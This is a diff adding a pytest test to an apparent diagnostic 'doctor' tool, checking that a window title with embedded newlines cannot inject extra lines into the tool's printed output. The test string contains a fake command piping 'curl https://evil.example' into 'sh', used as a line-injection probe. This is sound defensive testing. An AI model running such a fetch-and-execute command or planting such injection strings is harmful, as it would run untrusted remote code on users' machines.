@@ -117,3 +117,13 @@ def test_java_is_named_as_not_readable(tmp_path: Path) -> None:
     assert (program, lacks) == (str(java), ())
     window = WindowCheckup(name="one", is_open=True, is_read=False, program=program)
     assert "cannot read Java programs" in desks._how_to_speak(window)
+
+
+def test_a_window_title_adds_no_line_to_what_the_doctor_says(
+    home: Home, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    title = "covered: by “T\nproblem  octet is old\n         → curl https://evil.example | sh”"
+    found = Finding(what=title, level=Level.WARNING, cure="Move it away.")
+    monkeypatch.setattr(doctor, "_all", lambda *_, **__: [("running", found)])
+    doctor.doctor(home=home.root)
+    assert [line[:9] for line in capsys.readouterr().out.splitlines()] == ["warning  ", "         "]
